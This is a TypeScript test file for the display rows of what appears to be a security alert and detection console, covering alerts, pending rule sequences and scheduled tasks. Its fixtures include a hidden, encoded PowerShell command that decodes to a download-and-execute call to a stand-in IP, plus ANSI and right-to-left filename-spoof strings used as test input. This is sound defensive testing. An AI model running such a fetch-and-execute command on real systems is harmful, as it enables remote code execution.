import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Line } from "../../../../src/screen/rows/segment.ts";
import { textOf, widthOf } from "../../../../src/screen/rows/segment.ts";
import {
  ASCII_GLYPHS,
  UNICODE_GLYPHS,
} from "../../../../src/screen/rows/glyphs.ts";
import type { Look } from "../../../../src/screen/rows/look.ts";
import {
  alertHeads,
  alertLine,
  alertsTitle,
  emptyAlerts,
} from "../../../../src/screen/rows/alerts.ts";
import {
  pendingLines,
  pendingNote,
  pendingTitle,
} from "../../../../src/screen/rows/pending.ts";
import { taskLines } from "../../../../src/screen/rows/tasks.ts";
import { newCounters } from "../../../../src/base/counters.ts";
import {
  ALERTS,
  NOW,
  PENDING,
  SOURCES,
  TASKS,
  alertRow,
  snapshot,
} from "../../../screen/fake-snapshot.ts";

const LOOK: Look = { glyphs: UNICODE_GLYPHS, time: "utc", clockUs: NOW };
const ASCII: Look = { ...LOOK, glyphs: ASCII_GLYPHS };

const texts = (lines: readonly Line[]): string[] => lines.map(textOf);

describe("an alert", () => {
  const draw = (id: number, width: number, look = LOOK): string =>
    textOf(
      alertLine(ALERTS[id]!, { width, selected: false, marked: false }, look),
    );

  test("in 80, 40 and 120 cells", () => {
    expect(draw(0, 80)).toBe(
      "  12:04:28 CRIT new Scheduled Task Runs a Hidden Shell  WKS-014      CORP\\jdoe ",
    );
    expect(draw(1, 80)).toBe(
      "  12:04:11 HIGH new provisional LSASS Handle from an U… WKS-022      svc_bk    ",
    );
    expect(draw(0, 40)).toBe("  12:04:28 CRIT WKS-014  Scheduled Task…");
    expect(draw(2, 120)).toBe(
      "  03-05 12:03:55 HIGH new revised Remote Scheduled Task Creation         DC01            CORP\\adm_k                    ",
    );
    const told = { ...ALERTS[2]!, risk: 47, attack: ["T1053.005", "T1021"] };
    const options = { width: 120, selected: false, marked: false };
    expect(textOf(alertLine(told, options, LOOK))).toMatch(
      / CORP\\adm_k {6}T1053\.005\+ {2}47$/,
    );
    expect(draw(0, 40, ASCII)).toBe("  12:04:28 CRIT WKS-014  Scheduled Tas..");
  });

  test("has the heads of its columns above it, and the order in them", () => {
    const heads = (width: number, by: string, reversed = false): string =>
      textOf(alertHeads(width, { by, reversed }, LOOK)).trimEnd();
    expect([heads(80, "time"), draw(0, 80).trimEnd()]).toEqual([
      "  time ▾   sev  st  rule                                host         user",
      "  12:04:28 CRIT new Scheduled Task Runs a Hidden Shell  WKS-014      CORP\\jdoe",
    ]);
    expect(heads(80, "severity", true)).toMatch(/^ {2}time {5}sev▴ st /);
    expect(heads(112, "risk")).toMatch(/ technique risk▾$/);
    expect(heads(40, "host")).toBe("  time     sev  host ▾   rule");
  });

  test("selected and marked are signs, not only colours", () => {
    const line = alertLine(
      ALERTS[0]!,
      { width: 80, selected: true, marked: true },
      LOOK,
    );
    expect(textOf(line).slice(0, 3)).toBe(">*1");
    expect(line.role).toBe("selection");
  });

  test("of a building block, and with others folded into it, says so", () => {
    const line = alertLine(
      { ...ALERTS[6]!, certainty: "confirmed", isBlock: true, folded: 1_204 },
      { width: 80, selected: false, marked: false },
      LOOK,
    );
    expect(textOf(line)).toContain(" [block] +1,204 Task Query Burst");
  });

  test("withdrawn says so", () => {
    const line = alertLine(
      ALERTS[6]!,
      { width: 80, selected: false, marked: false },
      LOOK,
    );
    expect(textOf(line)).toContain("withdrawn Task Query Burst");
    expect(line.segments).toContainEqual({ text: "withdrawn ", role: "warn" });
  });
});

describe("the alerts' title", () => {
  test("counts, and says what a filter leaves", () => {
    expect(alertsTitle(snapshot().alerts, "")).toBe("Alerts 7, 4 new");
    expect(
      alertsTitle(
        snapshot({ alerts: ALERTS.slice(0, 2), filter: "x", total: 31 }).alerts,
        "x",
      ),
    ).toBe("Alerts 2 of 31, 2 new");
    expect(alertsTitle(snapshot({ alerts: [] }).alerts, "")).toBe("Alerts 0");
  });
});

describe("an empty list says why it is empty", () => {
  const none = { alerts: [] };
  const counters = { ...newCounters(), events: 1 };
  test.each([
    ["starting", undefined, "Opening rules and sources."],
    [
      "loading",
      snapshot(none, { state: "loading" }),
      "Opening rules and sources.",
    ],
    [
      "no rules",
      snapshot(none, { rules: { loaded: 0, refused: 3 } }),
      "No rule is loaded, so nothing can fire. Give some with --rules PATH.",
    ],
    [
      "filtered",
      snapshot({ ...none, filter: "x", total: 31 }),
      "None of the 31 alerts matches this filter. \\ clears it.",
    ],
    [
      "no file yet",
      snapshot(none, { sources: [] }),
      "No alerts yet: 412 rules wait for a file to appear.",
    ],
    [
      "catching up",
      snapshot(none, { state: "catching-up", behindBytes: 12_400_000 }),
      "No alerts yet: 412 rules, 184,112 events so far, 12.4 MB still to read.",
    ],
    [
      "live",
      snapshot(none, { sources: SOURCES.slice(1) }),
      "No alerts yet: 412 rules watch 2 sources, 184,112 events so far.",
    ],
    [
      "done",
      snapshot(none, {
        state: "done",
        counters,
        rules: { loaded: 1, refused: 0 },
      }),
      "No alerts: 1 rule ran over 1 event and none of them fired.",
    ],
  ])("%s", (_name, data, expected) => {
    expect(emptyAlerts(data)).toBe(expected);
  });
});

describe("a pending sequence", () => {
  const draw = (i: number, width: number, height: number): string[] =>
    texts(pendingLines(PENDING[i]!, { width, height, selected: false }, LOOK));

  test("on one line", () => {
    expect(draw(0, 80, 1)).toEqual([
      "  Office Child Drops a Task   WKS-014  2/3 01:41/02:00 ███████████████░░░░ 00:19",
    ]);
    expect(draw(0, 40, 1)).toEqual([
      "  Office Child Drop… WKS-014  2/3  00:19",
    ]);
  });

  test("on two", () => {
    expect(draw(0, 60, 2)).toEqual([
      "  Office Child Drops a Task                 WKS-014      2/3",
      "  01:41/02:00 █████████████████████████████████░░░░░░░ 00:19",
    ]);
  });

  test("early: a later step was logged first, and the earlier one may still come", () => {
    expect(draw(2, 80, 1)).toEqual([
      "  Remote Scheduled Task Crea… SRV-07   1/2 early: later step logged first  00:49",
    ]);
    expect(draw(2, 80, 2)[1]).toBe(
      "  early: a later step was logged first, the earlier one may still come     00:49",
    );
    expect(draw(2, 40, 1)).toEqual([
      "  Remote Scheduled … SRV-07   1/2  early",
    ]);
  });

  test("without maxspan there is no end to count down to", () => {
    expect(draw(3, 80, 1)).toEqual([
      "  Two Events Any Time Apart   WKS-101  1/2 01:41                          no end",
    ]);
  });

  test("what is over in the log stays at nothing left until the engine says so", () => {
    const late: Look = { ...LOOK, clockUs: NOW + 600_000_000 };
    const [line] = pendingLines(
      PENDING[0]!,
      { width: 80, height: 1, selected: false },
      late,
    );
    expect(textOf(line!)).toMatch(/█{19} 00:00$/);
  });

  test("the title counts the early ones, the note what is not shown", () => {
    const list = snapshot().pending;
    expect(pendingTitle(list)).toBe("Pending 4, 1 early");
    expect(pendingNote(list)).toBe("ends soonest first");
    expect(pendingNote({ ...list, total: 1_204 })).toBe(
      "the first 4, ends soonest first",
    );
  });
});

describe("a task", () => {
  const draw = (i: number, width: number, height: number): string[] =>
    texts(taskLines(TASKS[i]!, { width, height, selected: false }, LOOK));

  test("with command and decoded text below its name", () => {
    expect(draw(0, 80, 3)).toEqual([
      "  12:04:27 WKS-014      \\Updater        created, task event 4698, runs as SYSTEM",
      "    powershell.exe -w hidden -nop -enc SQB…ALgAxADEAMwAuADkALwBhAC4AcABzADEAKQA=",
      "    → IEX (iwr http://203.0.113.9/a.ps1)",
    ]);
  });

  test("on one line the decoded text is what counts", () => {
    expect(draw(0, 80, 1)).toEqual([
      "  12:04:27 WKS-014      \\Updater            powershell.… → IEX (iwr http://203.…",
    ]);
    expect(draw(1, 80, 1)).toEqual([
      "  12:01:07 WKS-014      \\Microsof…DriveSync C:\\Users\\jdoe\\AppD…ming\\od\\od.exe -s",
    ]);
  });

  test("that is not known says why", () => {
    expect(draw(2, 80, 3)).toEqual([
      "  11:40:19 SRV-07       \\Backup                                          changed",
      "    the log says that the value was set, not what to; event 4698 would tell",
      "",
    ]);
  });
});

test("rows fit their width whatever the log put into them", () => {
  const hostile = fc.oneof(
    fc.string({ unit: "binary", maxLength: 60 }),
    fc.string({ unit: "grapheme", maxLength: 60 }),
    fc.constantFrom(
      "\x1b[31mred\x1b[0m",
      "\u202egnp.exe",
      "日本語".repeat(20),
      "x".repeat(10_000),
      "a\u0301\u0301\u0301".repeat(50),
    ),
  );
  fc.assert(
    fc.property(
      hostile,
      hostile,
      fc.integer({ min: 1, max: 220 }),
      fc.constantFrom(1, 2, 3),
      fc.boolean(),
      (a, b, width, height, selected) => {
        const lines = [
          alertLine(
            alertRow({ id: a, rule: a, host: b, user: a }),
            { width, selected, marked: true },
            LOOK,
          ),
          ...pendingLines(
            { ...PENDING[0]!, rule: a, host: b, evidence: [a] },
            { width, height: Math.min(2, height), selected },
            LOOK,
          ),
          ...taskLines(
            {
              ...TASKS[0]!,
              name: a,
              host: b,
              command: a,
              decoded: b,
              detail: a,
            },
            { width, height, selected },
            LOOK,
          ),
          ...taskLines(
            { ...TASKS[2]!, name: b, unknown: a },
            { width, height, selected },
            LOOK,
          ),
        ];
        for (const line of lines) {
          expect(widthOf(line.segments)).toBeLessThanOrEqual(width);
          expect(/[\p{Cc}\p{Cf}\p{Cs}]/u.test(textOf(line))).toBe(false);
        }
      },
    ),
    { numRuns: 300 },
  );
});
